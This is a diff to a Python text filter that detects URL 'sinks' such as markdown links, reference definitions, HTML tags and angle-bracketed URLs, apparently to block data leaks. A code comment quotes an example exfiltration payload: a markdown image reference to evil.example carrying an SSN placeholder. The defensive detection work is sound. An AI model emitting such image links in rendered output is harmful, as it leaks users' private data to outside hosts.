@@ -31,7 +31,12 @@ _LDH = re.compile(r"[A-Za-z0-9-]++")
 _TLD = re.compile(r"[A-Za-z]{2,24}|[Xx][Nn]--[A-Za-z0-9-]{2,59}")
 _MD_TARGET = re.compile(r"\]\([^)\n]*+\)?")
 _MD_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,300}+\]:[ \t]*+\S++", re.MULTILINE)
-_TAG = re.compile(r"<[A-Za-z][\w:-]*+\s[^<>]*+>?")  # a tag with attributes
+# CommonMark also takes a link destination in angle brackets, spaces allowed, on the line after "](" or "]:", and
+# reference definitions inside block quotes and list items: "[1]: <https://evil.example/p.png?d= <US_SSN_1>>" renders
+# as an image (review r16a H3). So any one-line "<...>" span that holds a URL is a sink, wherever it stands.
+_ANGLED = re.compile(r"<(?:[^<>\n\\]++|\\.)++>?")  # "\>" inside does not end it (review r16b)
+# A tag with attributes; browsers also read "/" as the separator after the tag name ("<img/src=...>").
+_TAG = re.compile(r"<[A-Za-z][\w:-]*+[\s/][^<>]*+>?")
 
 
 def _hosts_holding(shadow: str, atoms: list[tuple[int, int]]) -> list[tuple[int, int]]:
@@ -71,6 +76,11 @@ def _bare_link(run: str, original: str) -> bool:
     return False
 
 
+def _holds_url(span: str, original: str) -> bool:
+    """A scheme or a bare host with a path anywhere in `span` (spaces inside angle brackets split no URL)."""
+    return _URL_MARK.search(span) is not None or _bare_link(span, original)
+
+
 class Sinks:
     """The sink spans of one text; `atoms` (placeholders) count as plain letters inside them."""
 
@@ -88,6 +98,7 @@ class Sinks:
             spans.extend(_hosts_holding(shadow, [m.span() for m in atoms.finditer(text)]))
         for pattern in (_MD_TARGET, _MD_REFERENCE, _TAG):
             spans.extend(m.span() for m in pattern.finditer(shadow))
+        spans.extend(m.span() for m in _ANGLED.finditer(shadow) if _holds_url(m.group(), text[m.start() : m.end()]))
         spans.sort()
         merged: list[tuple[int, int]] = []
         for s, e in spans:
